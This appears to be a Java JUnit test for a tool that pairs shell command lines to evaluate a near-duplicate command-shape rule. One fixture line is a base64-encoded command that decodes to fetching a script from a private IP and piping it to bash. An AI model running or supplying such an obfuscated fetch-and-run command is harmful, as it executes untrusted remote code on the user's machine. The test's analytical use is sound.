package dev.longtail.udfs.pairs;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assumptions.assumeThat;

import dev.longtail.udfs.io.JsonLines;
import dev.longtail.udfs.shape.CommandShape;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.Test;

class PairMakerTest {
  private static final List<String> LINES =
      List.of(
          "git push --force origin main",
          "git pull --rebase --verbose",
          "git fetch --depth 20 --all",
          "git status --short",
          "git log -p --stat",
          "ls -la /home/alice/work/report.txt",
          "ls -R /tmp/build8812.log",
          "ls -t --color",
          "ls -h",
          "ls -1 x",
          "ssh root@web1: -p 2222",
          "ping 192.168.1.17 -c 4",
          "reg query HKCR\\CLSID\\{4B7C02D9-61A5-4F3E-92D0-7A18C3E5F604} /s",
          "docker rmi e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
          "backup --day 2024-03-05 --out /srv/data/backup.zip",
          "echo ZWNobyBoZWxsbyB3b3JsZCwgdGhpcyBpcyBhIHRlc3QgMTIz | base64 -d",
          "echo Y3VybCAtcyBodHRwOi8vMTAuMS4yLjMvYSB8IGJhc2ggLXMgMTIz | base64 -d");

  private static List<LinePair> pairs(List<String> lines, long seed, int count) {
    List<LinePair> pairs = new ArrayList<>();
    new PairMaker(lines, seed).make(count, pairs::add);
    return pairs;
  }

  @Test
  void makesEveryKindEvenly() {
    List<LinePair> pairs = pairs(LINES, 1, 320);

    assertThat(pairs).hasSize(320).allSatisfy(p -> assertThat(p.a()).isNotEqualTo(p.b()));
    for (LinePair.Kind kind : LinePair.Kind.values()) {
      assertThat(pairs).filteredOn(p -> p.kind() == kind).hasSize(20);
    }
    assertThat(pairs).allSatisfy(p -> assertThat(p.duplicate()).isEqualTo(p.kind().duplicate()));
    assertThat(pairs).allSatisfy(p -> assertThat(LINES).contains(p.a()));
  }

  @Test
  void theSameSeedGivesTheSameWhateverTheOrder() {
    List<String> shuffled = new ArrayList<>(LINES);
    shuffled.addAll(LINES);
    Collections.shuffle(shuffled, new Random(5));

    assertThat(pairs(shuffled, 7, 100)).isEqualTo(pairs(LINES, 7, 100));
    assertThat(pairs(LINES, 8, 100)).isNotEqualTo(pairs(LINES, 7, 100));
  }

  @Test
  void leavesOutWhatCannotBeMade() {
    assertThat(pairs(List.of("whoami"), 1, 10)).isEmpty();
    assertThat(pairs(List.of(), 1, 10)).isEmpty();
    assertThat(pairs(List.of("ls /srv/x1 --depth 30"), 1, 10))
        .hasSize(10)
        .allSatisfy(p -> assertThat(p.kind()).isEqualTo(LinePair.Kind.NUMBER));
  }

  @Test
  void changesOnlyWhatTheKindSays() {
    for (LinePair pair : pairs(LINES, 3, 1_600)) {
      switch (pair.kind()) {
        case NUMBER ->
            assertThat(pair.b().replaceAll("\\d+", "0"))
                .isEqualTo(pair.a().replaceAll("\\d+", "0"));
        case FLAG_SWAP, SUB_COMMAND, TOOL ->
            assertThat(pair.b().split(" ")).hasSameSizeAs(pair.a().split(" "));
        case PAYLOAD -> assertThat(pair.b()).startsWith("echo ").endsWith(" | base64 -d");
        case SAME_TOOL, OTHER -> assertThat(LINES).contains(pair.b());
        default -> assertThat(pair.b().split("[ /]")[0]).isEqualTo(pair.a().split("[ /]")[0]);
      }
    }
  }

  /**
   * What the shape promises on real lines. The bounds are those that the near-duplicate rule was
   * planned with; see docs/shapes.md for what was measured.
   */
  @Test
  void shapesMeetNearDuplicatesAndTellSwapsApart() {
    Path data = Path.of(System.getProperty("longtail.data", "../../shared/data"), "real");
    assumeThat(Files.isDirectory(data)).as("the real command lines are here").isTrue();
    List<String> lines = new ArrayList<>();
    JsonLines.forEach(data, (record, where) -> lines.add(JsonLines.commandLine(record, where)));
    Collections.shuffle(lines, new Random(1));
    Map<LinePair.Kind, int[]> equal = new EnumMap<>(LinePair.Kind.class);

    new PairMaker(lines.subList(0, lines.size() / 4), 11)
        .make(
            8_000,
            pair -> {
              int[] counts = equal.computeIfAbsent(pair.kind(), k -> new int[2]);
              counts[0]++;
              counts[1] += CommandShape.of(pair.a()).equals(CommandShape.of(pair.b())) ? 1 : 0;
            });

    equal.forEach(
        (kind, counts) -> {
          double share = (double) counts[1] / counts[0];
          switch (kind) {
            case PAYLOAD -> assertThat(share).as(kind.label()).isZero();
            case FLAG_SWAP, SUB_COMMAND, TOOL, OTHER ->
                assertThat(share).as(kind.label()).isLessThan(0.01);
            case SAME_TOOL -> assertThat(share).as(kind.label()).isLessThan(0.4);
            default -> assertThat(share).as(kind.label()).isGreaterThan(0.98);
          }
        });
    assertThat(equal).containsOnlyKeys(LinePair.Kind.values());
  }
}
